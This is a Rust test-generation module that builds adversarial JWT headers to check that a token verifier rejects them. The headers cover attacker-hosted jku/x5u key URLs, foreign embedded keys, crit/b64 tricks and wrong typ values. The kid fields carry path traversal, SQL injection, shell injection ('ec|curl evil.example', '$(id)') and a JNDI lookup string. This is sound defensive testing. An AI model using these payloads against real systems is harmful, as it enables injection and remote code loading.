//! Headers that contain keys, change the meaning of the token, or declare another token type.

use serde_json::{Value, json};

use super::super::signer::ec;
use super::super::{NOW, claims};
use super::{Tokens, foreign_keys};

pub fn headers(tokens: &mut Tokens) {
    let stranger = &foreign_keys()[1];
    let brought = [
        ("jku", json!("https://evil.example/keys")),
        ("jku", json!("http://127.0.0.1:1/keys")),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("jwk", stranger.jwk()),
        ("x5c", json!(["MIIB"])),
        ("jku", Value::Null),
        ("jwk", json!({})),
        ("x5c", json!([])),
        ("x5u", json!("")),
    ];
    for (name, value) in brought {
        for signer in [stranger, ec()] {
            let mut header = signer.header();
            header[name] = value.clone();
            let who = if std::ptr::eq(signer, ec()) { "the issuer" } else { "a stranger" };
            tokens.add(format!("{name} {value} by {who}"), signer.token_of(&header.to_string(), &claims().to_string()));
        }
    }
    for crit in
        [json!([]), json!(["exp"]), json!(["b64"]), json!(["alg"]), json!("b64"), Value::Null, json!({}), json!([1])]
    {
        let mut header = ec().header();
        header["crit"] = crit.clone();
        tokens.header(format!("crit {crit}"), &header);
        header["b64"] = json!(false);
        header["exp"] = json!(*NOW + 300);
        tokens.header(format!("crit {crit} with b64 and exp"), &header);
    }
    for (name, value) in [
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("cty", json!("JWT")),
        ("enc", json!("A128GCM")),
        ("zip", json!("DEF")),
    ] {
        let mut header = ec().header();
        header[name] = value.clone();
        tokens.header(format!("{name} {value}"), &header);
    }
    for kid in [
        "",
        "../../../../../../dev/null",
        "/dev/null",
        "/etc/passwd",
        "..\\..\\keys",
        "ec\0",
        "ec/../ec",
        "EC",
        " ec",
        "ec ",
        "%65c",
        "ec' or '1'='1",
        "ec'; drop table passengers; --",
        "ec|curl evil.example",
        "$(id)",
        "https://evil.example/keys",
        "${jndi:ldap://evil.example}",
        "\u{202e}ce",
        "*",
        "0",
        "null",
    ] {
        let header = json!({"alg": "ES256", "typ": "at+jwt", "kid": kid});
        tokens.header(format!("kid {kid:?}"), &header);
    }
    tokens.header("a long kid", &json!({"alg": "ES256", "typ": "at+jwt", "kid": "k".repeat(4000)}));
    for kid in [Value::Null, json!(0), json!(true), json!(["ec"]), json!({"kid": "ec"})] {
        tokens.header(format!("kid {kid}"), &json!({"alg": "ES256", "typ": "at+jwt", "kid": kid}));
    }
}

pub fn types(tokens: &mut Tokens) {
    for typ in [
        "JWT",
        "jwt",
        "",
        "at",
        "jwt+at",
        "at+jwt ",
        "at+jwt;v=1",
        "application/jwt",
        "application/at+jwt;v=1",
        "text/at+jwt",
        "logout+jwt",
        "secevent+jwt",
        "dpop+jwt",
        "token-introspection+jwt",
        "JOSE",
        "id_token",
    ] {
        tokens.header(format!("typ {typ:?}"), &json!({"alg": "ES256", "typ": typ, "kid": "ec"}));
    }
    for typ in [Value::Null, json!(1), json!(["at+jwt"]), json!({"typ": "at+jwt"})] {
        tokens.header(format!("typ {typ}"), &json!({"alg": "ES256", "typ": typ, "kid": "ec"}));
    }
    tokens.header("no typ", &json!({"alg": "ES256", "kid": "ec"}));
}
